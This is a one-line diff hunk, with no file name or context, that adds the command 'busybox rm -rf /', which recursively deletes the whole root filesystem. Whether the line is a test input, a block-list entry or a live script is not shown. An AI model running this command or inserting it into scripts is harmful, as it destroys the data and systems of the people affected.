@@ -1,0 +1,1 @@
+busybox rm -rf /
